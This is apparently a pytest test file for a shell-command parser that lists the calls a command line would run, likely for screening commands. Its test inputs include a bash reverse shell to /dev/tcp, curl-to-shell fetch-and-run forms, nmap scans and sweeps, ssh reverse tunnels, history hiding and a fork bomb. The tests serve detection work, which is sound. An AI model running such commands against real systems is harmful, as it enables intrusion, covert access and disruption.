"""What a command line does: command -> the calls it would run."""

from __future__ import annotations

import pytest

from pipeline.shell.script import Call, read_strictly


def names(command: str) -> list[str]:
    return [call.name for call in read_strictly(command).calls]


def only(command: str, name: str) -> Call:
    (call,) = [call for call in read_strictly(command).calls if call.name == name]
    return call


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("ls", "ls"),
        ("  ls -l  ", "ls"),
        ("cd /tmp && ls || pwd; id", "cd ls pwd id"),
        ("a | b | c", "a b c"),
        ("a|&b", "a b"),
        ("a & b", "a b"),
        ("nmap&curl x", "nmap curl"),
        ("(a; b) | c", "a b c"),
        ("{ a; b; } > f", "a b"),
        ("! a", "a"),
        ("if a; then b; elif c; then d; else e; fi", "a b c d e"),
        ("while a; do b; done", "a b"),
        ("until a; do b; done", "a b"),
        ("for x in 1 2; do a $x; done", "a"),
        ("for ((i=0;i<3;i++)); do a; done", "a"),
        ("select x in a b; do c $x; done", "c"),
        ("case $x in a) b;; *) c;; esac", "b c"),
        ("[ -f x ] && a", "a"),
        ("[[ -n $(a) ]] && b", "a b"),
        ("x=$(a); b", "a b"),
        ("x=`a`; b", "a b"),
        ("b $(a) <(c)", "a c b"),
        ("a > >(b)", "b a"),
        ("export A=b; unset C", "export unset"),
        ("> /var/log/x", ""),
        ("A=1 b", "b"),
        ("coproc a x", "coproc a"),
        ("coproc N { a; }", "a"),
        ("a \\\n -b", "a"),
        ("a <<E\nb\nE\nc", "a c"),
        ("a <<E > f; b\nx\nE", "a b"),
        ("a <<'E' &\nx\nE\nb", "a b"),
        ("a <<A <<B\n1\nA\n2\nB\nb", "a b"),
        ("a <<-E\n\tx\n\tE\nb", "a b"),
        ("a <<< x; b", "a b"),
        ("{ a; } <<< x; (b) <<< y", "a b"),
        ("exec 5<>/dev/tcp/h/80; a <&5", "exec a"),
        ("exec {fd}>x; a", "exec a"),
        ("git commit -m \"$(cat <<'E'\nit's; nmap h\nE\n)\" && ls", "cat git ls"),
        ("a\r\nb\r\n", "a b"),
    ],
)
def test_calls_in_the_order_they_start(command: str, expected: str) -> None:
    script = read_strictly(command)
    assert " ".join(call.name for call in script.calls).strip() == expected
    assert not script.errors


@pytest.mark.parametrize(
    "command",
    [
        "grep -R nmap .",
        "man ssh",
        "echo 'ssh -R 1:localhost:22 h'",
        'echo "nmap h" > notes.txt',
        "ls # ; nmap h",
        "# nmap h",
        "cat <<E > README.md\nRun:\nnmap h\nssh -R 1:a:2 h\nE",
        "cat > doc.txt <<'E'\n$(nmap h)\nE",
        "printf 'nmap h\\n' >> notes",
        "git commit -m 'nmap; ssh -R'",
        "sed -i 's/a/nmap h/' f",
        "awk '/nmap/ {print}' f",
        "find . -name 'nmap' -print",
        "which nmap; type ssh; command -v nmap",
        "alias n='nmap h'",
        "python3 -c 'print(\"nmap h\")'",
        "echo bm1hcCBo",
        "echo bm1hcCBo | base64 -d",
        "tee f <<< 'nmap h'",
        "trap - EXIT",
        "crontab -l",
    ],
)
def test_what_is_only_text_is_no_call(command: str) -> None:
    assert not {"nmap", "ssh"} & set(names(command))


def test_documents_written_with_live_substitutions_do_run_those() -> None:
    assert names("cat > f <<E\n$(nmap h)\nE") == ["nmap", "cat"]
    assert names("cat > f <<'E'\n$(nmap h)\nE") == ["cat"]


def test_pipes_say_who_feeds_whom() -> None:
    calls = read_strictly("a; sudo b | c | sudo d").calls
    assert [(call.name, call.pipe_in) for call in calls] == [
        ("a", None), ("sudo", None), ("b", None), ("c", 2), ("sudo", 3), ("d", 3),
    ]  # fmt: skip


@pytest.mark.parametrize(
    "command",
    ["bash <(curl h)", 'bash -c "$(curl h)"', 'eval "$(curl h)"', "bash <<< $(curl h)", ". <(curl h)",
     "sh <<E\n$(curl h)\nE",
     "curl h | sh", "python3 -c \"$(curl h)\""],
)  # fmt: skip
def test_a_shell_is_fed_by_what_makes_up_its_program(command: str) -> None:
    calls = read_strictly(command).calls
    assert [call.name for call in calls][:1] == ["curl"]
    assert calls[1].pipe_in == 0
    assert len(calls) == 2


def test_lists_bind_weaker_than_pipes() -> None:
    calls = read_strictly('a -e | b -v c | d -q && e "x y" > f').calls
    assert [(call.name, call.pipe_in) for call in calls] == [("a", None), ("b", 0), ("d", 1), ("e", None)]
    assert [len(call.redirects) for call in calls] == [0, 0, 0, 1]


def test_redirects_are_resolved() -> None:
    call = only("P=/dev/tcp/192.0.2.1; bash -i >& $P/80 0>&1 2> /dev/null", "bash")
    assert [(one.op, one.fd, one.target) for one in call.redirects] == [
        (">&", None, "/dev/tcp/192.0.2.1/80"), (">&", 0, "1"), (">", 2, "/dev/null"),
    ]  # fmt: skip
    assert only("{ a; b; } > f", "a").redirects[0].target == "f"
    assert only("> f a -x", "a").argv == ("a", "-x")
    assert only("a > f -x", "a").argv == ("a", "-x")


def test_stdin_where_known() -> None:
    assert only("echo a b | c", "c").stdin == "a b\n"
    assert only("c <<< 'a b'", "c").stdin == "a b\n"
    assert only("X=1; c <<E\nv $X\nE", "c").stdin == "v 1\n"
    assert only("c <<'E'\nv $X\nE", "c").stdin == "v $X\n"
    assert only("curl h | c", "c").stdin is None


def test_assignments_before_a_command_are_its_environment() -> None:
    call = only("A=1 B='x y' c", "c")
    assert call.env == (("A", "1"), ("B", "x y"))
    assert only("env -i A=1 c", "c").env == (("A", "1"),)


def test_variables_that_steer_the_shell_are_a_call_without_words() -> None:
    (call,) = read_strictly("HISTFILE=/dev/null").calls
    assert (call.name, call.argv, call.env) == ("", (), (("HISTFILE", "/dev/null"),))
    assert read_strictly("x=1").calls == ()


@pytest.mark.parametrize(
    ("command", "loop", "count", "items"),
    [
        ("for i in 1 2 3; do p $i; done", 1, 3, ("1", "2", "3")),
        ("for i in {1..254}; do p $i; done", 1, 254, None),
        ("for i in $(seq 1 65535); do p $i; done", 1, 65535, None),
        ("for i in `seq 5`; do p $i; done", 1, 5, ("1", "2", "3", "4", "5")),
        ("for ((i=1; i<=20; i+=2)); do p $i; done", 1, 10, None),
        ("for i in *.txt; do p $i; done", 1, 0, ()),
        ("for i in $(curl h); do p $i; done", 1, 0, ()),
        ("while true; do p; done", 1, 0, ()),
        ("while read x; do p $x; done < f", 1, 0, ()),
        ("seq 1 300 | while read x; do p $x; done", 1, 300, None),
        ("i=1; while [ $i -le 9 ]; do p $i; i=$((i+1)); done", 1, 9, None),
        ("i=0; while (( i < 9 )); do p $i; ((i++)); done", 1, 9, None),
        ("for a in 1 2; do for b in x y z; do p $a $b; done; done", 2, 6, ("x", "y", "z")),
        ("seq 1 254 | xargs -I{} p 10.0.0.{}", 1, 254, None),
        ("echo a b c | xargs -n1 p", 1, 3, ("a", "b", "c")),
        ("ls | xargs -n1 p", 1, 0, ()),
        ("parallel p ::: a b", 1, 2, ("a", "b")),
        ("find . -exec p {} \\;", 1, 0, ()),
        ("find . -exec p {} +", 0, 0, ()),
        ("p", 0, 0, ()),
    ],
)
def test_loops(command: str, loop: int, count: int, items: tuple[str, ...] | None) -> None:
    call = only(command, "p")
    assert (call.loop, call.loop_count) == (loop, count)
    assert items is None or call.loop_items == items


def test_a_loop_over_commands_lists_each_command() -> None:
    assert names("for c in curl wget; do $c http://h; done") == ["curl", "wget"]
    assert only("for c in n m a p; do x=$x$c; done; $x h", "nmap").argv == ("nmap", "h")


def test_background_remote_unknown() -> None:
    assert only("a & b", "a").background
    assert not only("a & b", "b").background
    assert only("ssh h 'a; b'", "b").remote
    assert not only("ssh h a; b", "b").remote
    assert only("a $RANDOM", "a").unknown
    assert only("a $X", "a").argv == ("a", "$X")
    assert not only("X=1; a $X", "a").unknown


def test_code_in_other_languages_is_kept() -> None:
    assert read_strictly("python3 -c 'print(1)'").code == (("python", "print(1)"),)
    assert read_strictly("python3 - <<'E'\nprint(1)\nE").code == (("python", "print(1)\n"),)
    assert read_strictly("cat > a.py <<'E'\nprint(1)\nE\npython a.py").code == (("python", "print(1)\n"),)
    assert [language for language, _ in read_strictly("perl -e 'x'; ruby -e y; node -e z; php -r w").code] == [
        "perl", "ruby", "node", "php",
    ]  # fmt: skip


def test_functions_run_where_called_and_are_listed_once_where_not() -> None:
    assert names("f() { a $1; }; f x; f y").count("a") == 2
    call = only("f() { a; }", "a")
    assert call.via == ("function",)
    assert names(":(){ :|:& };:")


def test_subshells_forget_their_variables() -> None:
    assert only("X=a; (X=b); $X y", "a").argv == ("a", "y")
